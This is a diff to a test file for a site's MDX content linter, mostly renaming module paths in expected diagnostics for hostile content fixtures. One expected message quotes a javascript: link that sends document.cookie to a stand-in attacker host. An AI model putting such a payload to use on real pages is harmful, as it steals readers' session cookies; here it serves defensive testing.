@@ -14,8 +14,8 @@ import path from 'node:path';
 import { pathToFileURL } from 'node:url';
 import { parseFrontmatter } from '@astrojs/internal-helpers/frontmatter';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { loadContent } from '../../../src/content/load-content.ts';
-import { astroMdxContent } from '../../../src/content/mdx-gate.ts';
+import { loadContent } from '../../../src/content/load-publication-fs.ts';
+import { astroMdxContent } from '../../../src/markdown/mdx-gate.ts';
 import { formatDiagnostic } from '../../../src/diagnostics/diagnostic.ts';
 import { publicationIntegration } from '../../../src/integrations/publication.ts';
 import { contentFileInfo } from '../../../src/lint/content-file.ts';
@@ -65,7 +65,7 @@ describe('hostile MDX', { timeout: 120_000 }, () => {
 			  ],
 			  "import-node-fs": [
 			    "content/chapters/en/import-node-fs.mdx:29:1 error MdxImport: The file imports code (import fs from 'node:fs'); an MDX import runs at build time, so content may not have one.
-			    Remove the line. Content may use only the components in src/content/mdx-allowlist.ts, which the site supplies without an import.",
+			    Remove the line. Content may use only the components in src/markdown/mdx-allowlist.ts, which the site supplies without an import.",
 			  ],
 			  "javascript-link": [
 			    "content/chapters/en/javascript-link.mdx:41:6 error UnsafeUrl: The address javascript:fetch('https://attacker.example/'+document.cookie) uses the javascript: scheme, which a browser may run or hand to another program.
@@ -73,7 +73,7 @@ describe('hostile MDX', { timeout: 120_000 }, () => {
 			  ],
 			  "script-element": [
 			    "content/chapters/en/script-element.mdx:37:1 error RawHtmlElement: The <script> element is not allowed in content: it would run code in the reader's browser.
-			    Remove it. Content is data: write Markdown, and use only the components in src/content/mdx-allowlist.ts.",
+			    Remove it. Content is data: write Markdown, and use only the components in src/markdown/mdx-allowlist.ts.",
 			  ],
 			  "unknown-component": [
 			    "content/chapters/en/unknown-component.mdx:41:1 error DisallowedComponent: <Counter> is not a component content may use; the allowlist has <Term>.
